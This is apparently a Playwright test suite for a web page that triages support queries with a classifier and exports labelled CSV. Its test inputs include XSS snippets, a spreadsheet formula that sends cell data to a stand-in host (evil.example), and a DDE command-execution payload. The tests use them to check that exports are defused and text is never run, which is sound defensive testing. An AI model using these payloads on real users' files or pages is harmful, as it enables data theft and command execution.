"""The page in a real Chromium, in front of the real service."""

from __future__ import annotations

import csv
import io
import itertools
import json
import random
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Route, expect, sync_playwright
from services import Service, serve
from small_models import texts

from pipeline.cleaning import drop_empty
from pipeline.fetch import FetchParams, bring_dataset
from pipeline.rows import read_rows, write_rows
from pipeline.serving.classifier import Classifier
from pipeline.sources import read_csv
from pipeline.text import clean_text

PAGE = Path("pipeline/serving/page")
STANDIN = (sys.executable, str(Path(__file__).parent / "inbox_standin.py"))
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
FLAGS = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
)
PATIENCE_MS = 60_000

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium found (chromium, chromium-browser or google-chrome on PATH)")

INBOX = """id,message,team
1,"Where is it, please?
I wait [card_arrival 0.97]",a
2,I forgot the four digits [change_pin 0.61 unsure],b
3,My purse is gone [lost_card 0.55 unsure],b
4,,c
5,"It says ""no"" [change_pin 0.92]",c
"""
HOSTILE = (
    "<script>document.title = 'owned'</script><img src=x onerror=\"document.title = 'owned'\">",
    '=HYPERLINK("http://evil.example/?"&A1,"your refund")',
    "+1 555 0100 called me, is that you?",
    "-- is my card lost? --",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "  =1+1 after spaces",
    "\u00a0=1+1 after a space that does not break",
    "\ufeff=1+1 after a mark",
    "\uff1d1+1 in wide characters",
    "هل يمكنني تغيير الرقم السري؟",
    "\u202edesrever si siht",
    "\U0001f62d my card \U0001f4b3 is gone \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "'quoted' \"twice\", and; separated",
    "x" * 3_000,
    "many words " * 300,
)


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    with serve(tmp_path_factory.mktemp("serve"), program=STANDIN) as running:
        yield running


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path=CHROMIUM, args=list(FLAGS))
        yield running
        running.close()


@pytest.fixture
def page(browser: Browser, service: Service) -> Iterator[Page]:
    """The page, opened; at the end it must have asked nobody but its service, and complained of nothing."""
    with opened(browser, service.url) as opening:
        yield opening


@contextmanager
def opened(browser: Browser, url: str, **context: Any) -> Iterator[Page]:
    complaints: list[str] = []
    with browser.new_context(**context) as fresh:
        page = fresh.new_page()
        page.set_default_timeout(PATIENCE_MS)
        expect.set_options(timeout=PATIENCE_MS)
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on("console", lambda message: complaints.append(message.text) if message.type in ("error", "warning") else None)
        page.on("request", lambda request: None if request.url.startswith((url, "blob:", "data:")) else complaints.append(request.url))
        page.goto(url)
        yield page
        told = [text for text in complaints if "Failed to load resource" not in text]  # a refused request, which tests cause
        assert told == []


# what stands in another column; where semicolons or tabs separate fields it is cut, though it is quoted
HOSTILE_FIELDS = ("@x", "x;=1", "x\n=1", "x\r\n\t-1", 'x;"=1', "x\t\uff1d1", "x;", "x\n", 'x\n"', "x; ")


def upload(page: Page, name: str, content: str | bytes) -> None:
    buffer = content.encode() if isinstance(content, str) else content
    page.set_input_files("#file", files=[{"name": name, "mimeType": "text/plain", "buffer": buffer}])


def sort(page: Page) -> None:
    page.click("#sort")
    page.wait_for_selector("#progress", state="hidden")


def sort_inbox(page: Page) -> None:
    upload(page, "inbox.csv", INBOX)
    sort(page)


def counts(page: Page) -> dict[str, int]:
    """What the groups' headings say."""
    headings = page.locator(".group h2").evaluate_all("all => all.map(h => [h.firstChild.textContent, h.lastChild.textContent])")
    return {name: int(count.replace(",", "")) for name, count in headings}


def current(page: Page) -> str:
    return page.inner_text(".row.current .text")


def saved(page: Page, button: str) -> bytes:
    """The file that a button gives."""
    with page.expect_download() as download:
        page.click(button)
    return Path(download.value.path()).read_bytes()


def in_page(page: Page, module: str, expression: str, argument: object = None) -> Any:
    """Evaluates an expression over a module `m` of the page and an argument `x`."""
    return page.evaluate(f"async x => {{ const m = await import('/static/{module}.js'); return {expression}; }}", argument)


# ---- CSV


def random_tables(count: int) -> list[list[list[str]]]:
    rng = random.Random(7)
    pieces = ["a", "card", " ", ",", ";", '"', '""', "\n", "\r\n", "\t", "=", "é", "\u202e", "\U0001f4b3", "0", ""]

    def field() -> str:
        return "".join(rng.choice(pieces) for _ in range(rng.randrange(6)))

    return [
        [[field() for _ in range(columns)] for _ in range(rng.randrange(1, 6))] for columns in (rng.randrange(2, 5) for _ in range(count))
    ]


def test_csv_is_read_as_python_writes_it(page: Page) -> None:
    tables = random_tables(100)
    for delimiter, newline in itertools.product((",", ";", "\t"), ("\n", "\r\n", "\r")):
        written = []
        for table in tables:
            target = io.StringIO(newline="")
            quoting = csv.QUOTE_ALL if newline == "\r" else csv.QUOTE_MINIMAL  # Python's writer then leaves a line feed unquoted
            csv.writer(target, delimiter=delimiter, lineterminator=newline, quoting=quoting).writerows(table)
            written.append(target.getvalue())
        read = in_page(page, "csv", "x.texts.map(text => m.parseCsv(text, x.delimiter))", {"texts": written, "delimiter": delimiter})
        assert [one["records"] for one in read] == tables, (delimiter, newline)
        assert {one["problem"] for one in read} == {""}, (delimiter, newline)


def as_read(field: str) -> str:
    """Without the mark that keeps a formula from being one, also behind a semicolon."""
    return clean_text(field.replace("\x7f", ""))


def test_csv_that_python_reads_back_is_written(page: Page) -> None:
    tables = random_tables(100)
    for table, text in zip(tables, in_page(page, "csv", "x.map(m.toCsv)", tables), strict=True):
        read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))
        assert [clean_text(fields[0]) for fields in read] == [clean_text(fields[0]) for fields in table]
        assert [[as_read(field) for field in fields] for fields in read] == [[as_read(field) for field in fields] for fields in table]


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ('a,b\n1,"open', "Row 2: a quotation mark is opened and never closed."),
        (
            'a,b\n1,"x"\n2,"it\n3,my "card" is lost\n',
            "Row 3: text stands behind a closing quotation mark: one within a text must be doubled.",
        ),
        ("a,b\n1,2\n1,2,3\n", "Row 3 has 3 fields where the first has 2: a text with the separator in it must be quoted."),
    ],
)
def test_what_is_wrong_with_a_csv_is_told(page: Page, text: str, problem: str) -> None:
    upload(page, "inbox.csv", text)
    expect(page.locator("#problem")).to_have_text(problem)


@pytest.mark.parametrize(
    ("name", "content", "first", "tally"),
    [
        ("a.txt", "One, two\n\n  \nThree\r\nFour\rFive", "One, two", "4 queries; 2 without a text left out."),
        ("a.csv", INBOX, "Where is it, please?\nI wait [card_arrival 0.97]", "4 queries; 1 without a text left out."),
        (
            "a.csv",
            "\ufeff" + INBOX.replace("\n", "\r\n"),
            "Where is it, please?\r\nI wait [card_arrival 0.97]",
            "4 queries; 1 without a text left out.",
        ),
        ("a.csv", "subject;x\nWo ist die Karte, bitte?;1\nKönnen Sie mir helfen, bitte?;2\n", "Wo ist die Karte, bitte?", "2 queries."),
        ("a.csv", "id,subject\n1,Größe der Karte\n".encode("cp1252"), "Größe der Karte", "1 query."),
        ("a.csv", "\ufeffid\tsubject\r\n1\tGröße der Karte\r\n".encode("utf-16-le"), "Größe der Karte", "1 query."),
        ("a.csv", "Is it lost? I fear so.,7\nIt came.,8\n", "Is it lost? I fear so.", "2 queries."),
        ("a.csv", "text;amount\n" + "Where is it?;3,50\n" * 20, "Where is it?", "20 queries."),
        ("a.csv", ",text,label,\n0,My card is lost,a,\n1,It is late,b,\n", "My card is lost", "2 queries."),
        ("a.csv", ",,\n0,My card is lost,a\n1,It is late,b\n", "My card is lost", "2 queries; 1 without a text left out."),
    ],
)
def test_an_inbox_is_read_whatever_it_comes_in(page: Page, name: str, content: str | bytes, first: str, tally: str) -> None:
    upload(page, name, content)
    expect(page.locator("#tally")).to_have_text(tally)
    assert page.text_content("#preview li") == first


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("pasted", [False, True])
def test_one_row_amiss_is_told_of_and_the_separator_stays(page: Page, separator: str, pasted: bool) -> None:
    rows = [
        ["id", "message", "team"],
        *([str(number), f"My card number {number} is lost", "a"] for number in range(30)),
        ["30", "two", "b", "c"],
    ]
    content = "".join(separator.join(row) + "\n" for row in rows)
    if pasted:
        page.fill("#paste", content)
    else:
        upload(page, "inbox.csv", content)
    expect(page.locator("#preview li").first).to_have_text("My card number 0 is lost")
    expect(page.locator("#tally")).to_contain_text("31 queries")
    expect(page.locator("#problem")).to_contain_text("Row 32 has 4 fields where the first has 3")


def test_a_file_that_is_too_large_is_cut_between_rows_and_that_is_told(page: Page, tmp_path: Path) -> None:
    text = "a, long text of a mail\n" * 2_000
    with (tmp_path / "inbox.csv").open("w", newline="") as handle:
        csv.writer(handle).writerows([["text", "team"], *([f"{number} {text}", "a"] for number in range(1_200))])
    page.set_input_files("#file", tmp_path / "inbox.csv")
    expect(page.locator("#tally")).to_contain_text("more than 50 MB: use python -m pipeline.score")
    expect(page.locator("#problem")).to_be_hidden()
    expect(page.locator("#tally")).to_contain_text(re.compile(r"^(9|1,0)\d\d queries"))


def test_a_person_says_how_a_paste_is_to_be_read(page: Page) -> None:
    page.fill("#paste", "Hello, my card is lost.\nWell, it was stolen.")
    expect(page.locator("[value=lines]")).to_be_checked()
    page.fill("#paste", "name,note,number\nAda,a long note about a card,1\n")
    expect(page.locator("[value=csv]")).to_be_checked()
    expect(page.locator("#preview")).to_have_text("a long note about a card")
    page.select_option("#column", label="name")
    expect(page.locator("#preview")).to_have_text("Ada")
    page.uncheck("#has-header")
    expect(page.locator("#tally")).to_have_text("2 queries.")
    page.check("[value=lines]")
    expect(page.locator("#preview li").first).to_have_text("name,note,number")
    assert page.is_hidden("#column-field")


def test_a_long_paste_stands_where_it_was_pasted(page: Page) -> None:
    page.fill("#paste", "One that was here.\nAnother that was.")
    page.evaluate(
        """text => {
          const clipboardData = new DataTransfer();
          clipboardData.setData('text/plain', text);
          const field = document.getElementById('paste');
          field.setSelectionRange(19, 26);
          field.dispatchEvent(new ClipboardEvent('paste', { clipboardData, cancelable: true }));
        }""",
        "It is pasted.\n" * 4_000,
    )
    expect(page.locator("#loaded-name")).to_have_text("Pasted text")
    expect(page.locator("#tally")).to_have_text("4,002 queries.")
    assert page.locator("#preview li").all_inner_texts() == ["One that was here.", "It is pasted.", "It is pasted."]


# ---- triage


def test_queries_are_sorted_into_intents_and_what_needs_a_person_comes_first(page: Page) -> None:
    sort_inbox(page)
    assert list(counts(page).items()) == [("Needs a person", 2), ("Card arrival", 1), ("Change pin", 1)]
    lane = page.locator(".lane .row")
    assert [re.sub(r" \[.*", "", text) for text in lane.locator(".text").all_inner_texts()] == [
        "My purse is gone",
        "I forgot the four digits",
    ]
    assert lane.locator(".percent").all_inner_texts() == ["55 %", "61 %"]
    widths = lane.locator(".sureness .bar").evaluate_all("all => all.map(bar => bar.firstChild.offsetWidth / bar.offsetWidth)")
    assert widths == pytest.approx([0.55, 0.61], abs=0.02)


def test_the_exported_model_is_shown_as_it_answers(browser: Browser, project: Path, tmp_path: Path) -> None:
    queries = texts(60, seed=3)
    classifier = Classifier.load(project / "models/onnx")
    answers = [answer for at in (0, 32) for answer in classifier.answer(queries[at : at + 32])]  # batch-mates as the page sends them
    assert {answer.accepted for answer in answers} == {answer.truncated for answer in answers} == {True, False}
    with serve(tmp_path, model=project / "models/onnx") as running, opened(browser, running.url) as page:
        upload(page, "inbox.txt", "\n".join(queries))
        sort(page)
        rows = list(csv.DictReader(io.StringIO(saved(page, "#export-all").decode("utf-8-sig"))))
        assert [row["text"] for row in rows] == queries
        assert [row["label"] for row in rows] == [answer.label for answer in answers]
        assert [row["needs_person"] == "no" for row in rows] == [answer.accepted for answer in answers]
        assert [float(row["confidence"]) for row in rows] == pytest.approx([answer.confidence for answer in answers], abs=0.0006)
        page.click("#filters button:has-text('Needs a person')")
        in_part = page.locator(".badge", has_text="read in part").count()
        assert in_part == sum(answer.truncated and not answer.accepted for answer in answers)


def test_filter_and_search_narrow_what_is_shown(page: Page) -> None:
    sort_inbox(page)
    page.click("#filters button:has-text('Change pin')")
    assert counts(page) == {"Change pin": 1}
    page.click("#filters button:has-text('Everything')")
    page.keyboard.press("/")
    page.keyboard.type("PURSE")
    expect(page.locator(".row")).to_have_count(1)
    assert counts(page) == {"Needs a person": 1}
    page.keyboard.type(" no such thing")
    expect(page.locator(".nothing")).to_contain_text("No query here has")


def test_labels_are_corrected_and_undone_by_keyboard_alone(page: Page) -> None:
    sort_inbox(page)
    page.keyboard.press("j")
    assert current(page).startswith("My purse")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("k")
    page.keyboard.press("Enter")
    expect(page.locator("#picker-text")).to_contain_text("My purse")
    page.keyboard.type("top u")
    expect(page.locator("#picker-list [aria-selected=true]")).to_have_text("Top up")
    page.keyboard.press("Enter")
    expect(page.locator("#picker")).to_be_hidden()
    assert counts(page) == {"Needs a person": 1, "Card arrival": 1, "Change pin": 1, "Top up": 1}
    assert page.inner_text(".row:has(.badge.corrected) .text").startswith("My purse")
    assert current(page).startswith("I forgot")  # the next in the lane
    assert page.evaluate("document.activeElement.closest('.row').classList.contains('current')")
    page.keyboard.press("1")
    assert page.locator(".badge.confirmed").count() == 1
    assert "Needs a person" not in counts(page)
    expect(page.locator("#announce")).to_have_text("Change pin. 0 queries left for a person.")
    page.keyboard.press("u")
    page.keyboard.press("u")
    assert counts(page) == {"Needs a person": 2, "Card arrival": 1, "Change pin": 1}
    assert current(page).startswith("My purse")
    page.keyboard.press("x")
    assert counts(page)["Set aside"] == 1


def test_a_double_click_decides_one_row_and_is_undone_by_a_button(page: Page) -> None:
    sort_inbox(page)
    expect(page.locator("#undo")).to_be_hidden()
    page.click(".row .text")
    page.locator(".row.current .guesses button").first.dblclick()
    assert page.inner_text("#reviewed") == "1"
    assert counts(page)["Needs a person"] == 1
    page.click("#undo")
    assert counts(page)["Needs a person"] == 2
    assert current(page).startswith("My purse")
    expect(page.locator("#undo")).to_be_hidden()


def test_keys_act_on_the_row_that_has_the_focus_and_on_none_that_is_not_shown(page: Page) -> None:
    sort_inbox(page)
    page.keyboard.press("j")
    assert current(page).startswith("My purse")
    page.keyboard.press("/")
    page.keyboard.type("forgot")
    expect(page.locator(".row")).to_have_count(1)
    page.locator("#search").blur()
    page.keyboard.press("x")  # My purse is not shown
    assert page.locator(".row.current").count() == 0
    assert "Set aside" not in counts(page)
    page.locator(".row .pick").focus()
    assert current(page).startswith("I forgot")
    page.keyboard.press("1")
    page.keyboard.press("u")
    page.keyboard.press("/")
    page.keyboard.press("Escape")  # the search is over
    assert page.input_value("#search") == ""
    assert counts(page) == {"Needs a person": 2, "Card arrival": 1, "Change pin": 1}
    page.keyboard.press("j")
    page.keyboard.press("x")
    page.click("#filters button:has-text('Change pin')")
    page.keyboard.press("u")  # of a row that this folder does not show
    assert page.locator(".row.current").count() == 0
    page.keyboard.press("x")
    expect(page.locator("#filters button:has-text('Set aside')")).to_have_count(0)


def test_of_a_large_group_keys_act_on_no_row_that_is_not_drawn_and_a_decision_draws_none(page: Page) -> None:
    queries = [*(f"needle {i} [lost_card 0.5 unsure]" for i in range(60)), "another [change_pin 0.9]"]
    upload(page, "inbox.txt", "\n".join(queries))
    sort(page)
    page.keyboard.press("/")
    page.keyboard.type("needle")
    expect(page.locator(".row")).to_have_count(60)
    page.locator(".row").nth(45).click()
    page.keyboard.press("/")
    page.keyboard.press("Escape")
    assert page.locator(".row").count() == 21
    page.keyboard.press("x")  # the 46th is not among them
    assert counts(page) == {"Needs a person": 60, "Change pin": 1}
    page.keyboard.press("j")
    for _ in range(30):
        page.keyboard.press("1")
    assert counts(page) == {"Needs a person": 30, "Lost card": 30, "Change pin": 1}
    assert page.locator(".row").count() == 41
    assert current(page).startswith("needle 30 ")


def test_a_key_that_is_held_down_decides_one_row(page: Page) -> None:
    sort_inbox(page)
    page.keyboard.press("j")
    for key in ("1", "1", "1", "1"):
        page.keyboard.down(key)  # the second and later ones repeat
    page.keyboard.up("1")
    assert page.inner_text("#reviewed") == "1"
    for _ in range(4):
        page.keyboard.down("Enter")
    page.keyboard.up("Enter")
    expect(page.locator("#picker")).to_be_visible()
    assert page.inner_text("#reviewed") == "1"


def test_the_button_of_a_row_is_described_by_its_text(page: Page) -> None:
    sort_inbox(page)
    page.keyboard.press("j")
    described = page.evaluate("document.getElementById(document.activeElement.getAttribute('aria-describedby')).textContent")
    assert described.startswith("My purse")


def test_arrows_choose_in_the_picker_and_escape_leaves_all_as_it_was(page: Page) -> None:
    sort_inbox(page)
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    names = page.locator("#picker-list .option-name").all_inner_texts()
    assert names[0] == "Lost card"
    assert names[-1] == "No intent fits: set aside"
    assert len(names) == 10
    page.keyboard.press("ArrowUp")
    page.keyboard.press("Escape")
    expect(page.locator("#picker")).to_be_hidden()
    assert counts(page)["Needs a person"] == 2
    page.keyboard.press("Enter")
    page.keyboard.type("no intent")
    page.keyboard.press("Enter")
    assert counts(page) == {"Needs a person": 1, "Card arrival": 1, "Change pin": 1, "Set aside": 1}


def test_help_opens_by_key_but_not_while_typing(page: Page) -> None:
    page.keyboard.press("?")
    expect(page.locator("#help")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#help")).to_be_hidden()
    page.locator("#paste").press_sequentially("Why?")
    expect(page.locator("#help")).to_be_hidden()
    expect(page.locator("#paste")).to_have_value("Why?")


def test_keys_of_one_character_can_be_switched_off(page: Page) -> None:
    sort_inbox(page)
    page.keyboard.press("?")
    page.uncheck("#keys-on")
    page.keyboard.press("Escape")
    for _ in range(2):
        for key in ("j", "?", "/"):
            page.keyboard.press(key)
        assert page.locator(".row.current").count() == 0
        expect(page.locator("#help")).to_be_hidden()
        page.keyboard.press("ArrowDown")
        page.keyboard.press("x")
        page.keyboard.press("1")
        assert current(page).startswith("My purse")
        assert counts(page)["Needs a person"] == 2
        page.reload()
        page.wait_for_selector(".row")
    page.click("#show-help")
    page.check("#keys-on")
    page.keyboard.press("Escape")
    page.locator("body").click(position={"x": 1, "y": 1})
    page.keyboard.press("j")
    page.keyboard.press("x")
    assert counts(page)["Set aside"] == 1


# ---- what goes out


def label_by_keyboard(page: Page, folder: str, labels: list[str]) -> None:
    """Gives labels to the rows of a folder, from the first on."""
    page.click(f"#filters button:has-text('{folder}')")
    page.keyboard.press("j")
    for label in labels:
        page.keyboard.press("Enter")
        page.keyboard.type(label)
        page.keyboard.press("Enter")


def test_the_pipeline_reads_the_training_rows_as_the_very_texts_and_labels(page: Page, tmp_path: Path) -> None:
    queries = [*HOSTILE, "An ordinary query.", 'With "quotes", commas\nand lines']
    table = io.StringIO(newline="")
    csv.writer(table).writerows([["message", "id"], *([f"{text} [top_up 0.{50 + at} unsure]", str(at)] for at, text in enumerate(queries))])
    upload(page, "inbox.csv", table.getvalue())
    sort(page)
    labels = ["=cmd", "-1 day", "twice", "<b>bold", "change pin", "lost card"]
    full = {"=cmd": "=cmd|' /C calc'!A1", "-1 day": "-1_day", "twice": "twice;-1", "<b>bold": "<b>bold</b>", "change pin": "change_pin"}
    given = [labels[at % len(labels)] for at in range(len(queries))]
    label_by_keyboard(page, "Needs a person", given)

    path = tmp_path / "training-rows.csv"
    path.write_bytes(saved(page, "#export-training"))
    params = FetchParams(train=str(path), test=str(path), text_column="text", label_column="label", encoder="none", student_encoder=None)
    splits, _ = bring_dataset(params)
    write_rows(tmp_path / "train.csv", splits["train"])
    rows, dropped = drop_empty(read_rows(tmp_path / "train.csv"), str(path))
    expected = {
        (clean_text(f"{text} [top_up 0.{50 + at} unsure]"), clean_text(full.get(given[at], "lost_card"))) for at, text in enumerate(queries)
    }
    assert {(row.text, row.intent) for row in rows} == expected
    assert (len(rows), dropped) == (len(queries), 0)

    (tmp_path / "train.csv").write_text("text,label\nAn older query,top_up\n")
    subprocess.run(
        "(awk 1 train.csv; tail -n +2 training-rows.csv) > more.csv", cwd=tmp_path, shell=True, check=True
    )  # as docs/page.md says
    assert [(row.text, row.intent) for row in read_csv(tmp_path / "more.csv", "text", "label")] == [
        ("An older query", "top_up"),
        *((row.text, row.intent) for row in splits["train"]),
    ]


def test_no_cell_of_what_is_saved_begins_like_a_formula(page: Page, tmp_path: Path) -> None:
    rows = [*((text, "@x") for text in HOSTILE), *(("of two;=1+1\n=1+1\t=1+1", field) for field in HOSTILE_FIELDS)]
    table = io.StringIO(newline="")
    csv.writer(table).writerows([("text", "=1+1"), *((f"{text} [top_up 0.5 unsure]", field) for text, field in rows)])
    upload(page, "inbox.csv", table.getvalue())
    sort(page)
    label_by_keyboard(page, "Needs a person", [("=cmd", "twice")[at % 2] for at in range(len(rows))])
    for button, columns in (("#export-training", 2), ("#export-all", 6)):
        content = saved(page, button)
        assert content.startswith(b"\xef\xbb\xbf")
        for separator in (",", ";", "\t"):
            reader = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator, strict=separator == ",")
            cells = [cell for fields in reader for cell in fields]
            assert len(cells) == columns * (len(rows) + 1) or separator != ","
            formula = re.compile(r"[\s\x00-\x1f\x80-\x9f\ufeff\u200b-\u200f]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
            assert list(filter(formula.match, cells)) == [], (button, separator)


def test_all_rows_are_saved_in_their_order_with_what_is_known_of_them(page: Page, tmp_path: Path) -> None:
    sort_inbox(page)
    label_by_keyboard(page, "Needs a person", ["top up", "change"])
    path = tmp_path / "inbox-sorted.csv"
    path.write_bytes(saved(page, "#export-all"))
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["text", "label", "confidence", "needs_person", "reviewed", "id", "team"]
    assert [list(row.values())[1:] for row in rows] == [
        ["card_arrival", "0.970", "no", "", "1", "a"],
        ["change_pin", "0.610", "no", "confirmed", "2", "b"],
        ["top_up", "0.550", "no", "corrected", "3", "b"],
        ["change_pin", "0.920", "no", "", "5", "c"],
    ]
    assert [row.intent for row in read_csv(path, "text", "label")] == ["card_arrival", "change_pin", "top_up", "change_pin"]


def test_what_was_saved_can_be_sorted_and_saved_again_and_again(page: Page) -> None:
    page.on("dialog", lambda dialog: dialog.accept())
    content = INBOX.encode()
    for _ in range(4):
        upload(page, "inbox.csv", content)
        expect(page.locator("#has-header")).to_be_checked()
        sort(page)
        content = saved(page, "#export-all")
        page.click("#clear")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [row["id"] for row in rows] == ["1", "2", "3", "5"]
    assert [row["label"] for row in rows] == ["card_arrival", "change_pin", "lost_card", "change_pin"]
    assert len(rows[0]) == 2 + 1 + 4 * 4  # id and team, the text, and what each of four rounds said


def test_texts_and_labels_are_shown_as_they_are_and_never_run(page: Page) -> None:
    upload(page, "inbox.csv", "text\n" + "".join(f'"{text.replace(chr(34), chr(34) * 2)}"\n' for text in HOSTILE))
    page.check("[value=csv]")
    sort(page)
    assert set(page.locator(".row .text").evaluate_all("all => all.map(text => text.textContent)")) == set(HOSTILE)
    label_by_keyboard(page, "Card arrival", ["<b>bold"])
    page.click("#filters button:has-text('Everything')")
    expect(page.locator(".group h2", has_text="<b>bold</b>")).to_be_visible()
    assert page.title() == "Inbox, sorted"
    assert page.locator("#groups script, #groups img, #groups b").count() == 0


def test_no_script_or_style_is_inline_and_no_text_becomes_markup(service: Service) -> None:
    markup = service.get("/").text
    assert not re.search(r"<script(?![^>]* src=)|<style|\sstyle=|\son\w+=|javascript:", markup)
    sources = [path.read_text(encoding="utf-8") for path in PAGE.glob("*.js")]
    assert len(sources) >= 6
    for source in sources:
        assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|https?://", source)
    assert re.findall(r"https?://[^\"'\s>]+|@import", markup + (PAGE / "style.css").read_text(encoding="utf-8")) == []


# ---- the service says no


def test_a_busy_service_is_asked_again_when_it_said(page: Page) -> None:
    asked: list[str] = []

    def busy(route: Route) -> None:
        asked.append(route.request.url)
        if len(asked) < 8:  # as often as it is so: Stop is the person's
            route.fulfill(status=503, headers={"Retry-After": str(int(len(asked) == 1))}, json={"error": "too much"})
        else:
            route.continue_()

    page.route("**/v1/predict", busy)
    upload(page, "inbox.csv", INBOX)
    page.click("#sort")
    expect(page.locator("#progress-text")).to_have_text("The service is busy. Next try in 1 s.")
    page.wait_for_selector("#progress", state="hidden")
    assert len(asked) == 8
    assert page.is_hidden("#error")
    assert sum(counts(page).values()) == 4


def test_retry_after_is_seconds_or_a_date_and_has_a_limit(page: Page) -> None:
    cases = [["7", 0], ["0", 0], [None, 0], [None, 3], ["86400", 0], ["Thu, 01 Jan 1970 00:00:05 GMT", 0], ["soon", 1]]
    waits = in_page(page, "service", "x.map(([told, tries]) => m.waitSeconds(told, tries, 0))", cases)
    assert waits == [7, 0.2, 1, 8, 60, 5, 2]


@pytest.mark.parametrize(
    ("status", "body", "message"),
    [
        (None, "", "The service cannot be reached."),
        (504, '{"error": "the model did not answer in time"}', "The service refused (504). It says: the model did not answer in time"),
        (502, "<html>Bad gateway</html>", "The service refused (502)."),
        (200, "<html>Log in</html>", "The service's answer is not JSON."),
        (200, '{"predictions": []}', "The service returned a different number of answers than texts sent."),
    ],
)
def test_an_error_is_one_line_and_sorting_goes_on_where_it_stopped(page: Page, status: int | None, body: str, message: str) -> None:
    portions: list[int] = []

    def fail_second(route: Route) -> None:
        portions.append(len(json.loads(route.request.post_data or "")["texts"]))
        if len(portions) != 2:
            route.continue_()
        elif status is None:
            route.abort()
        else:
            route.fulfill(status=status, body=body)

    page.route("**/v1/predict", fail_second)
    upload(page, "inbox.txt", "\n".join(f"query {i}" for i in range(50)))
    page.click("#sort")
    expect(page.locator("#error-text")).to_have_text(message)
    expect(page.locator("#progress-text")).to_have_text("Stopped at 32 of 50")
    expect(page.locator("#retry")).to_be_focused()
    page.keyboard.press("Enter")
    page.wait_for_selector("#progress", state="hidden")
    assert page.is_hidden("#error")
    assert portions == [32, 18, 18]
    assert counts(page) == {"Card arrival": 50}


def test_an_error_takes_no_focus_from_the_field_that_somebody_types_into(page: Page) -> None:
    held: list[Route] = []
    page.route("**/v1/predict", lambda route: held.append(route) if page.locator(".row").count() else route.continue_())
    upload(page, "inbox.txt", "\n".join(f"box {i} [lost_card 0.5 unsure]" for i in range(64)))
    page.click("#sort")
    page.wait_for_selector(".row")
    page.keyboard.press("j")
    page.keyboard.press("/")
    page.keyboard.type("box")
    held[0].fulfill(status=504)
    expect(page.locator("#retry")).to_be_visible()
    page.keyboard.type(" 1x")
    expect(page.locator("#search")).to_have_value("box 1x")
    expect(page.locator(".nothing")).to_be_visible()
    assert page.inner_text("#reviewed") == "0"
    assert "Set aside" not in page.inner_text("#filters")


def test_sorting_can_be_stopped_and_goes_on(page: Page) -> None:
    upload(page, "inbox.txt", "\n".join(f"slow {i}" for i in range(100)))
    page.click("#sort")
    expect(page.locator("#progress-text")).to_have_text(re.compile("^Sorted [1-9]"))
    page.click("#stop")
    expect(page.locator("#progress-text")).to_have_text(re.compile("^Stopped at (32|64|96) of 100"))
    page.click("#filters button:has-text('Needs a person')")
    expect(page.locator(".nothing")).to_have_text("Nothing here yet.")
    page.click("#stop")
    page.wait_for_selector("#progress", state="hidden")
    expect(page.locator(".nothing")).to_have_text("Nothing needs you here. Well done.")
    page.click("#filters button:has-text('Everything')")
    assert counts(page) == {"Card arrival": 100}


def test_a_service_with_small_limits_and_a_key_is_given_both(browser: Browser, tmp_path: Path) -> None:
    key = "a key of sixteen or more"
    variables = {"SERVE_API_KEY": key}
    with serve(tmp_path, "--max-body-bytes", "1000", program=STANDIN, variables=variables) as running, opened(browser, running.url) as page:
        upload(page, "inbox.txt", "\n".join(f"query {i} {'word ' * 20}" for i in range(20)))
        page.click("#sort")
        expect(page.locator("#error-text")).to_have_text("The service asks for an API key.")
        expect(page.locator("#key")).to_be_focused()
        page.keyboard.type("a \u201ckey\u201d of sixteen or more")
        page.keyboard.press("Enter")
        expect(page.locator("#error-text")).to_contain_text("This is not a valid API key")
        expect(page.locator("#key")).to_be_focused()
        page.fill("#key", key)
        page.keyboard.press("Enter")
        page.wait_for_selector("#progress", state="hidden")
        assert counts(page) == {"Card arrival": 20}


def test_a_text_that_the_service_finds_too_long_is_cut_and_that_is_shown(browser: Browser, tmp_path: Path) -> None:
    with serve(tmp_path, "--max-body-bytes", "1000", program=STANDIN) as running, opened(browser, running.url) as page:
        upload(page, "inbox.txt", "\n".join(["A short one.", "word " * 600, *(f"query {i}" for i in range(40))]))
        sort(page)
        assert page.is_hidden("#error")
        assert counts(page) == {"Card arrival": 42}
        assert page.inner_text(".row:has(.badge:text-is('read in part')) .text").startswith("word word")


def test_when_the_model_changes_the_page_says_so_and_sorts_anew_what_nobody_has_looked_at(browser: Browser, tmp_path: Path) -> None:
    before, after = tmp_path / "before", tmp_path / "after"
    before.mkdir()
    after.mkdir()
    with ExitStack() as stack:
        with serve(before, program=STANDIN) as running:
            port = running.url.rpartition(":")[2]
            page = stack.enter_context(opened(browser, running.url))
            upload(page, "inbox.txt", "\n".join(f"slow {i}" for i in range(100)))
            page.click("#sort")
            expect(page.locator("#progress-text")).to_have_text(re.compile("^Sorted [1-9]"))
            page.click("#stop")
            expect(page.locator("#progress-text")).to_have_text(re.compile("^Stopped at (32|64|96) of 100"))
            page.keyboard.press("j")
            page.keyboard.press("1")
            sorted_so_far = counts(page)
